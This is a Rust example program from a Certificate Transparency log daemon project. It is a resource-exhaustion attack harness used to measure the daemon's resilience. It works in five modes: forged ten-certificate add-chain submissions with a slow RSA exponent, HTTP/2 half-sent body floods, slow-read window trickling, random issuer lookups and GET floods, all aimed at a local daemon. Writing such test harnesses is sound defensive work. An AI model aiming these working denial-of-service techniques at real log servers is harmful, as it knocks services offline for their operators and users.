//! The attacks of #62, as a client with no credentials would make them, against a CT
//! log of a running daemon, until killed (`benches/hostile.sh` measures what each
//! costs another log of the same daemon):
//!
//! * `--mode chains`: made-up `add-chain` submissions, `--concurrency` at a time: ten
//!   certificates each naming the next as its issuer and signed by it, the last naming
//!   an accepted root (which did not sign it), every key one RSA-4096 key with the
//!   exponent 2^33 − 1 (aws-lc-rs refuses it: the slow library's case). A log that
//!   checks signatures before it knows the chain reaches a root pays nine slow checks.
//! * `--mode bodies`: HTTP/2 connections (`--concurrency`) of 100 streams, each sending
//!   500 KB of a 512 KiB `add-chain` body and never the rest; a stream answered or
//!   reset is opened again.
//! * `--mode trickle`: HTTP/2 connections of `--streams` streams, each a `GET` of
//!   `--path` (a large bundle) whose window grows by 64 KiB every 10 s.
//! * `--mode issuers`: `GET /issuer/<random fingerprint>`, `--concurrency` at a time.
//! * `--mode gets`: `GET` of `--path` (say `checkpoint`), `--concurrency` at a time:
//!   what a flood of requests costs whatever it asks for, the floor under the others.
//!
//! Prints the answers it got by status every 5 s.
//!
//!     cargo run --release -p tlogd --example attack -- --url http://127.0.0.1:PORT/ct --mode chains

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::Context;
use axum::http::{Method, Request};
use base64::Engine as _;
use bytes::Bytes;
use clap::Parser;

#[derive(Parser)]
struct Args {
    /// The CT log's URL (its prefix included).
    #[arg(long)]
    url: String,
    /// `chains`, `bodies`, `trickle` or `issuers`.
    #[arg(long)]
    mode: String,
    /// Requests (or connections, for `bodies`) at once.
    #[arg(long, default_value_t = 16)]
    concurrency: usize,
    /// `trickle`: streams on each of 2 connections.
    #[arg(long, default_value_t = 19)]
    streams: usize,
    /// `trickle`, `gets`: the path to read, under `--url`.
    #[arg(long, default_value = "tile/data/000")]
    path: String,
    /// The local address to connect from (a second loopback address, so that the
    /// daemon counts the attacker apart from the loadgen it measures).
    #[arg(long, default_value = "127.0.0.2")]
    source: std::net::IpAddr,
    /// `chains`: a PEM file with a real chain's leaf and intermediate (the keys are
    /// swapped out; only its names and shape are used).
    #[arg(long)]
    chain_pem: Option<std::path::PathBuf>,
}

type Tally = Arc<Mutex<BTreeMap<String, u64>>>;

/// Where connections come from (`--source`).
static SOURCE: std::sync::OnceLock<std::net::IpAddr> = std::sync::OnceLock::new();

/// A TCP connection to `authority` from [`SOURCE`].
async fn connect(authority: &str) -> std::io::Result<tokio::net::TcpStream> {
    let to: std::net::SocketAddr = authority
        .parse()
        .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidInput, e))?;
    let s = tokio::net::TcpSocket::new_v4()?;
    let from = SOURCE.get().copied().unwrap_or([127, 0, 0, 2].into());
    s.bind(std::net::SocketAddr::new(from, 0))?;
    s.connect(to).await
}

fn count(tally: &Tally, what: impl Into<String>) {
    *tally
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .entry(what.into())
        .or_default() += 1;
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let _ = SOURCE.set(args.source);
    let tally: Tally = Arc::default();
    let url = args.url.trim_end_matches('/').to_string();
    let authority = url
        .strip_prefix("http://")
        .context("--url must be http://")?
        .split('/')
        .next()
        .unwrap_or_default()
        .to_string();
    let prefix = url
        .strip_prefix("http://")
        .and_then(|u| u.find('/').map(|i| u[i..].to_string()))
        .unwrap_or_default();
    match args.mode.as_str() {
        "chains" => {
            let pem = args.chain_pem.context("--chain-pem is needed for chains")?;
            let body = made_up_chain(&std::fs::read(&pem)?)?;
            for _ in 0..args.concurrency {
                let (tally, authority) = (tally.clone(), authority.clone());
                let uri = format!("http://{authority}{prefix}/ct/v1/add-chain");
                let body = body.clone();
                tokio::spawn(async move {
                    requests(&authority, &tally, move |_| {
                        (Method::POST, uri.clone(), Some(body.clone()))
                    })
                    .await
                });
            }
        }
        "issuers" => {
            for i in 0..args.concurrency {
                let (tally, authority) = (tally.clone(), authority.clone());
                let base = format!("http://{authority}{prefix}/issuer/");
                tokio::spawn(async move {
                    requests(&authority, &tally, move |k| {
                        let n = (i as u64) << 40 | k;
                        let fp: String = (0..4u64)
                            .map(|j| {
                                format!("{:016x}", (n ^ j).wrapping_mul(0x9e37_79b9_7f4a_7c15))
                            })
                            .collect();
                        (Method::GET, format!("{base}{fp}"), None)
                    })
                    .await
                });
            }
        }
        "gets" => {
            // The baseline of a flood: one cheap path, over and over.
            for _ in 0..args.concurrency {
                let (tally, authority) = (tally.clone(), authority.clone());
                let uri = format!("http://{authority}{prefix}/{}", args.path);
                tokio::spawn(async move {
                    requests(&authority, &tally, move |_| {
                        (Method::GET, uri.clone(), None)
                    })
                    .await
                });
            }
        }
        "bodies" => {
            for _ in 0..args.concurrency {
                let (tally, authority, prefix) = (tally.clone(), authority.clone(), prefix.clone());
                tokio::spawn(async move {
                    loop {
                        if let Err(e) = bodies(&authority, &prefix, &tally).await {
                            count(&tally, format!("connection: {e}"));
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                    }
                });
            }
        }
        "trickle" => {
            for _ in 0..2 {
                let (tally, authority) = (tally.clone(), authority.clone());
                let path = format!("{prefix}/{}", args.path);
                let streams = args.streams;
                tokio::spawn(async move {
                    loop {
                        if let Err(e) = trickle(&authority, &path, streams, &tally).await {
                            count(&tally, format!("connection: {e}"));
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                    }
                });
            }
        }
        other => anyhow::bail!("unknown --mode {other}"),
    }
    // Set up (a key made, a chain signed): the script starts measuring now.
    println!("ready");
    loop {
        tokio::time::sleep(Duration::from_secs(5)).await;
        let t = tally.lock().unwrap_or_else(|e| e.into_inner()).clone();
        println!("{t:?}");
    }
}

/// Requests one after another on HTTP/2 connections (reopened when one ends), the
/// `k`th made by `make(k)`; their statuses counted.
async fn requests(
    authority: &str,
    tally: &Tally,
    make: impl Fn(u64) -> (Method, String, Option<Bytes>),
) {
    let mut k = 0u64;
    loop {
        let Ok(tcp) = connect(authority).await else {
            count(tally, "connect failed");
            tokio::time::sleep(Duration::from_millis(100)).await;
            continue;
        };
        let Ok((send, conn)) = h2::client::Builder::new().handshake::<_, Bytes>(tcp).await else {
            count(tally, "handshake failed");
            continue;
        };
        let conn = tokio::spawn(conn);
        loop {
            k += 1;
            let (method, uri, body) = make(k);
            let Ok(mut s) = send.clone().ready().await else {
                break;
            };
            let Ok(req) = Request::builder().method(method).uri(uri).body(()) else {
                break;
            };
            let Ok((resp, mut stream)) = s.send_request(req, body.is_none()) else {
                break;
            };
            if let Some(b) = body
                && stream.send_data(b, true).is_err()
            {
                break;
            }
            match resp.await {
                Ok(r) => {
                    count(tally, r.status().as_u16().to_string());
                    // Read the answer, releasing its window.
                    let mut body = r.into_body();
                    while let Some(Ok(d)) = body.data().await {
                        let _ = body.flow_control().release_capacity(d.len());
                    }
                }
                Err(_) => {
                    count(tally, "stream error");
                    break;
                }
            }
        }
        conn.abort();
    }
}

/// The `add-chain` body of ten certificates shaped like `pem`'s leaf (each
/// naming the next as its issuer and signed by its key, the last naming the
/// intermediate's issuer: an accepted root), every key one RSA-4096 key with exponent
/// 2^33 − 1 (made here, a few seconds).
fn made_up_chain(pem: &[u8]) -> anyhow::Result<Bytes> {
    use rsa::pkcs1v15::Pkcs1v15Sign;
    use sha2::{Digest, Sha256};
    let ders: Vec<Vec<u8>> = pem_certs(pem);
    let leaf = ders
        .first()
        .context("the PEM needs a leaf and its intermediate")?;
    let inter = ders
        .get(1)
        .context("the PEM needs a leaf and its intermediate")?;
    let (issuer, subject) = names(inter).context("intermediate does not parse")?;
    let key =
        rsa::RsaPrivateKey::new_with_exp(&mut OsRng, 4096, &rsa::BigUint::from(0x1_ffff_ffffu64))?;
    let n = rsa::traits::PublicKeyParts::n(&key).to_bytes_be();
    let spki = rsa_spki(&n, &[0x01, 0xff, 0xff, 0xff, 0xff]);
    // sha256WithRSAEncryption, NULL parameters.
    let alg = wrap(
        0x30,
        &[
            &[
                0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x0b,
            ],
            &[0x05, 0x00],
        ],
    );
    let mut chain = Vec::new();
    for i in 0..10u8 {
        // Certificate i names certificate i + 1's subject; the last names the root.
        let own = name_with(&subject, i);
        let parent = if i == 9 {
            issuer.clone()
        } else {
            name_with(&subject, i + 1)
        };
        // The leaf's shape (no basicConstraints: a log that remembers verified CA
        // links does not remember these).
        let tbs = tbs_with(leaf, &alg, &parent, &own, &spki).context("rebuilding")?;
        let sig = key.sign(Pkcs1v15Sign::new::<Sha256>(), &Sha256::digest(&tbs))?;
        let bits = wrap(0x03, &[&[0u8], &sig]);
        chain.push(wrap(0x30, &[&tbs, &alg, &bits]));
    }
    let b64: Vec<String> = chain
        .iter()
        .map(|c| base64::engine::general_purpose::STANDARD.encode(c))
        .collect();
    Ok(Bytes::from(serde_json::json!({ "chain": b64 }).to_string()))
}

/// The operating system's randomness, for the key.
struct OsRng;

impl rsa::rand_core::RngCore for OsRng {
    fn next_u32(&mut self) -> u32 {
        let mut b = [0u8; 4];
        self.fill_bytes(&mut b);
        u32::from_le_bytes(b)
    }
    fn next_u64(&mut self) -> u64 {
        let mut b = [0u8; 8];
        self.fill_bytes(&mut b);
        u64::from_le_bytes(b)
    }
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        getrandom::fill(dest).expect("the OS has randomness");
    }
    fn try_fill_bytes(&mut self, dest: &mut [u8]) -> Result<(), rsa::rand_core::Error> {
        self.fill_bytes(dest);
        Ok(())
    }
}

impl rsa::rand_core::CryptoRng for OsRng {}

fn pem_certs(pem: &[u8]) -> Vec<Vec<u8>> {
    let text = String::from_utf8_lossy(pem);
    let mut out = Vec::new();
    let mut cur: Option<String> = None;
    for line in text.lines() {
        match (line.trim(), &mut cur) {
            ("-----BEGIN CERTIFICATE-----", _) => cur = Some(String::new()),
            ("-----END CERTIFICATE-----", Some(s)) => {
                if let Ok(d) = base64::engine::general_purpose::STANDARD.decode(s.as_bytes()) {
                    out.push(d);
                }
                cur = None;
            }
            (l, Some(s)) => s.push_str(l),
            _ => {}
        }
    }
    out
}

/// One DER element: (tag, header length, contents length).
fn tlv(d: &[u8]) -> Option<(u8, usize, usize)> {
    let tag = *d.first()?;
    let first = *d.get(1)? as usize;
    if first < 0x80 {
        return Some((tag, 2, first));
    }
    let n = first & 0x7f;
    let mut len = 0usize;
    for k in 0..n {
        len = len << 8 | *d.get(2 + k)? as usize;
    }
    Some((tag, 2 + n, len))
}

fn wrap(tag: u8, parts: &[&[u8]]) -> Vec<u8> {
    let len: usize = parts.iter().map(|p| p.len()).sum();
    let mut out = vec![tag];
    if len < 0x80 {
        out.push(len as u8);
    } else {
        let b = len.to_be_bytes();
        let skip = b.iter().take_while(|&&x| x == 0).count();
        out.push(0x80 | (b.len() - skip) as u8);
        out.extend_from_slice(&b[skip..]);
    }
    for p in parts {
        out.extend_from_slice(p);
    }
    out
}

/// A certificate cut up: the TBSCertificate's elements, the outer signatureAlgorithm
/// and signatureValue elements.
type Parts<'a> = (Vec<&'a [u8]>, &'a [u8], &'a [u8]);

/// `der` cut up ([`Parts`]).
fn split(der: &[u8]) -> Option<Parts<'_>> {
    let (_, h, _) = tlv(der)?;
    let mut rest = &der[h..];
    let mut outer = Vec::new();
    while !rest.is_empty() {
        let (_, hh, l) = tlv(rest)?;
        outer.push(&rest[..hh + l]);
        rest = &rest[hh + l..];
    }
    let tbs = *outer.first()?;
    let (_, th, _) = tlv(tbs)?;
    let mut fields = Vec::new();
    let mut r = &tbs[th..];
    while !r.is_empty() {
        let (_, hh, l) = tlv(r)?;
        fields.push(&r[..hh + l]);
        r = &r[hh + l..];
    }
    Some((fields, outer.get(1)?, outer.get(2)?))
}

/// The issuer and subject Names of `der`.
fn names(der: &[u8]) -> Option<(Vec<u8>, Vec<u8>)> {
    let (f, _, _) = split(der)?;
    let first = usize::from(f.first()?[0] == 0xa0);
    Some((f.get(first + 2)?.to_vec(), f.get(first + 4)?.to_vec()))
}

/// `der`'s TBSCertificate with its signature algorithm, issuer, subject and key
/// replaced.
fn tbs_with(der: &[u8], alg: &[u8], issuer: &[u8], subject: &[u8], spki: &[u8]) -> Option<Vec<u8>> {
    let (mut f, _, _) = split(der)?;
    let first = usize::from(f.first()?[0] == 0xa0);
    f[first + 1] = alg;
    f[first + 2] = issuer;
    f[first + 4] = subject;
    f[first + 5] = spki;
    Some(wrap(0x30, &f))
}

/// A Name: `base` with one more RDN (an organizationalUnitName "made-up N").
fn name_with(base: &[u8], n: u8) -> Vec<u8> {
    let (_, h, _) = tlv(base).unwrap_or((0x30, 2, 0));
    let ou = format!("made-up {n}");
    let atv = wrap(
        0x30,
        &[
            &[0x06, 0x03, 0x55, 0x04, 0x0b],
            &wrap(0x0c, &[ou.as_bytes()]),
        ],
    );
    let rdn = wrap(0x31, &[&atv]);
    wrap(0x30, &[&base[h..], &rdn])
}

/// An RSA SubjectPublicKeyInfo of modulus `n` and exponent `e` (big-endian).
fn rsa_spki(n: &[u8], e: &[u8]) -> Vec<u8> {
    let int = |v: &[u8]| {
        if v.first().is_some_and(|b| b & 0x80 != 0) {
            wrap(0x02, &[&[0u8], v])
        } else {
            wrap(0x02, &[v])
        }
    };
    let key = wrap(0x30, &[&int(n), &int(e)]);
    let alg = wrap(
        0x30,
        &[
            &[
                0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01,
            ],
            &[0x05, 0x00],
        ],
    );
    wrap(0x30, &[&alg, &wrap(0x03, &[&[0u8], &key])])
}

/// One connection of 100 streams each sending 500 KB of a 512 KiB body, reopened as
/// they are answered, until the connection ends.
async fn bodies(authority: &str, prefix: &str, tally: &Tally) -> anyhow::Result<()> {
    let tcp = connect(authority).await?;
    let (send, conn) = h2::client::Builder::new()
        .handshake::<_, Bytes>(tcp)
        .await?;
    let conn = tokio::spawn(conn);
    let piece = Bytes::from(vec![b'A'; 500_000]);
    let mut tasks = tokio::task::JoinSet::new();
    loop {
        while tasks.len() < 100 {
            let mut s = send.clone().ready().await?;
            let req = Request::post(format!("http://{authority}{prefix}/ct/v1/add-chain"))
                .header("content-length", (512 << 10).to_string())
                .body(())?;
            let (resp, mut stream) = s.send_request(req, false)?;
            stream.send_data(piece.clone(), false)?;
            let tally = tally.clone();
            tasks.spawn(async move {
                let _keep = stream;
                match resp.await {
                    Ok(r) => count(&tally, r.status().as_u16().to_string()),
                    Err(e) => count(
                        &tally,
                        format!(
                            "stream: {}",
                            e.reason().map_or("error".into(), |r| format!("{r:?}"))
                        ),
                    ),
                }
            });
        }
        if conn.is_finished() {
            anyhow::bail!("closed");
        }
        tasks.join_next().await;
    }
}

/// One connection of `streams` streams reading `path` at 64 KiB per stream every 10 s.
async fn trickle(authority: &str, path: &str, streams: usize, tally: &Tally) -> anyhow::Result<()> {
    let tcp = connect(authority).await?;
    let (send, conn) = h2::client::Builder::new()
        .initial_window_size(64 << 10)
        .initial_connection_window_size(4 << 20)
        .handshake::<_, Bytes>(tcp)
        .await?;
    let conn = tokio::spawn(conn);
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..streams {
        let mut s = send.clone().ready().await?;
        let req = Request::get(format!("http://{authority}{path}")).body(())?;
        let (resp, _) = s.send_request(req, true)?;
        let tally = tally.clone();
        tasks.spawn(async move {
            let Ok(r) = resp.await else {
                count(&tally, "stream reset");
                return;
            };
            count(&tally, r.status().as_u16().to_string());
            let mut body = r.into_body();
            let mut got = 0usize;
            loop {
                // Take what has come, but open the window only 64 KiB per 10 s.
                match tokio::time::timeout(Duration::from_secs(10), body.data()).await {
                    Ok(Some(Ok(d))) => got += d.len(),
                    Ok(_) => break,
                    Err(_) => {
                        let _ = body.flow_control().release_capacity(got.min(64 << 10));
                        got = got.saturating_sub(64 << 10);
                    }
                }
            }
            count(&tally, "stream ended");
        });
    }
    while tasks.join_next().await.is_some() {}
    conn.abort();
    Ok(())
}
